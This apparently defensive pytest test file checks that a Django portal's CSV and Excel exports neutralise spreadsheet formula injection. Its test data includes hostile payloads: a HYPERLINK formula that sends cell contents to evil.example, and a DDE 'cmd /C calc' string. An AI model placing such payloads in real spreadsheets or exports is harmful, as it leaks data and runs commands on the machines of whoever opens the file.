"""Every export neutralises formulas: hostile text stays text, numbers and dates stay real."""

import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from activities.models import HourEntry
from activities.services import imports
from billing.models import Invoice
from billing.services.issuing import credit_note_issue
from members.models import Role
from portal import exports
from tests.billing.invoicing import issue_invoice
from tests.factories import ActivityFactory, active_organisation, member_of, taking_part
from tests.helpers import logged_in, run_action

pytestmark = pytest.mark.django_db

DAY = timezone.localdate() - datetime.timedelta(days=3)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def _csv(content: bytes | str) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


# --- The module ------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_a_quote_in_front(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Workshop", "Møte 3-4", "e-post: a@b.no", "", "1+1", "'=x"])
def test_ordinary_text_is_left_alone(text):
    assert exports.neutralise(text) == text


def test_every_csv_field_is_quoted_and_numbers_and_dates_stay_plain():
    text = exports.csv_text(
        ("a", "b", "c", "d", "e"),
        [("=1+1", Decimal("-2000.00"), -3, datetime.date(2026, 1, 2), None)],
    )

    assert text.splitlines() == ['"a";"b";"c";"d";"e"', '"\'=1+1";"-2000.00";"-3";"2026-01-02";""']


def test_excel_keeps_numbers_and_dates_real_and_formulas_as_text():
    content = exports.xlsx_bytes(
        ("text", "amount", "count", "date"),
        [("=1+1", Decimal("-2000.50"), -3, datetime.date(2026, 1, 2))],
        sheet_title="Test",
    )

    sheet = _xlsx(content)
    text, amount, count, date = sheet[2]
    assert (text.value, text.data_type) == ("'=1+1", "s")
    assert (amount.value, amount.data_type) == (-2000.5, "n")
    assert (count.value, count.data_type) == (-3, "n")
    assert date.is_date
    assert date.value == datetime.datetime(2026, 1, 2)


def test_a_control_character_a_workbook_cannot_hold_does_not_break_the_download():
    sheet = _xlsx(exports.xlsx_bytes(("text",), [("bell\x07=x",)], sheet_title="T"))

    assert sheet["A2"].value == "bell=x"


# --- Hours (member export, admin action, import template) ------------------------------------


@pytest.fixture
def hostile_hours():
    organisation = active_organisation(name="=cmd|' /C calc'!A0")
    admin = member_of(organisation, Role.ADMIN, email="ola@fjordcelle.no", full_name="@Ola")
    activity = taking_part(organisation, ActivityFactory(title="+Prosjekt")).activity
    for description in HOSTILE:
        HourEntry.objects.create(
            organisation=organisation,
            person=admin,
            activity=activity,
            date=DAY,
            hours=Decimal("0.25"),
            description=description,
        )
    return organisation, admin


def _hours_url(name, organisation):
    return reverse(f"activities:{name}", kwargs={"pk": organisation.pk})


def test_the_hours_csv_export_neutralises_every_hostile_cell(hostile_hours):
    organisation, admin = hostile_hours

    response = logged_in(admin).get(_hours_url("hour_export_csv", organisation))

    body = response.getvalue()  # a streamed body is read once
    rows = _csv(body)[1:]
    assert sorted(row[4] for row in rows) == sorted("'" + text for text in HOSTILE)
    assert {(row[3], row[5], row[6], row[7]) for row in rows} == {
        ("0.25", "'@Ola", "'+Prosjekt", "'=cmd|' /C calc'!A0")
    }
    assert body.decode().startswith('"date";"email"')


def test_the_hours_excel_export_has_no_formula_and_real_numbers_and_dates(hostile_hours):
    organisation, admin = hostile_hours

    response = logged_in(admin).get(_hours_url("hour_export_xlsx", organisation))

    sheet = _xlsx(response.getvalue())
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # XML turns a stored carriage return into a line feed when the workbook is read back.
    assert sorted(row[4] for row in sheet.iter_rows(min_row=2, values_only=True)) == sorted(
        "'" + text.replace("\r", "\n") for text in HOSTILE
    )
    date, _email, activity_id, hours = sheet[2][:4]
    assert date.is_date
    assert date.value.date() == DAY
    assert activity_id.data_type == hours.data_type == "n"
    assert hours.value == 0.25


def test_the_admin_hours_csv_neutralises_the_description(hostile_hours, staff_client):
    response = run_action(staff_client, HourEntry, "export_csv", HourEntry.objects.all())

    rows = _csv(response.getvalue())[1:]
    assert sorted(row[4] for row in rows) == sorted("'" + text for text in HOSTILE)
    assert {row[7] for row in rows} == {"'=cmd|' /C calc'!A0"}


def test_the_import_template_is_quoted_and_reads_back_through_the_importer(hostile_hours):
    organisation, admin = hostile_hours

    response = logged_in(admin).get(_hours_url("hour_import_template", organisation))

    assert response.content.decode().splitlines()[0] == (
        '"date";"email";"activity_id";"hours";"description"'
    )
    rows = imports.read_rows(content=response.content, filename="template.csv")
    assert [row["description"] for row in rows] == ["Workshop"]


# --- Billing (accounting export: invoices, credit notes, payments) ---------------------------


def test_the_accounting_export_neutralises_a_hostile_buyer_and_keeps_negative_amounts(
    staff_client,
):
    invoice = issue_invoice(name='=HYPERLINK("http://evil.example")')
    credit_note_issue(
        invoice=invoice,
        issued_by=None,
        reason="-rabatt",
        amount_excl_vat=Decimal(2000),
        issue_date=invoice.issue_date,
    )

    response = run_action(staff_client, Invoice, "export_selected", Invoice.objects.all())

    rows = _csv(response.getvalue())
    header, *body = rows
    by_type = {row[header.index("type")]: dict(zip(header, row, strict=True)) for row in body}
    assert by_type["invoice"]["name"] == '\'=HYPERLINK("http://evil.example")'
    assert by_type["credit_note"]["name"] == '\'=HYPERLINK("http://evil.example")'
    assert by_type["credit_note"]["total"] == "-2500.00"  # a number, no quote in front
    assert all(line.startswith('"') for line in response.getvalue().decode().splitlines())


def test_the_accounting_period_download_neutralises_too(staff_client):
    issue_invoice(name="@Evil AS")
    url = reverse("admin:billing_invoice_accounting_export")

    response = staff_client.get(url, {"date_from": "2026-01-01", "date_to": "2026-01-31"})

    header, row = _csv(response.getvalue())
    assert row[header.index("name")] == "'@Evil AS"


def test_no_module_but_portal_exports_writes_csv_or_excel():
    """A new export must go through portal.exports, which neutralises formulas."""
    root = Path(settings.BASE_DIR)
    writers = ("csv.writer", "csv.DictWriter", "Workbook(")
    offenders = [
        str(path.relative_to(root))
        for app in ("activities", "billing", "members", "portal", "battery_norway")
        for path in (root / app).rglob("*.py")
        if path != root / "portal" / "exports.py"
        and any(writer in path.read_text() for writer in writers)
    ]
    assert offenders == []
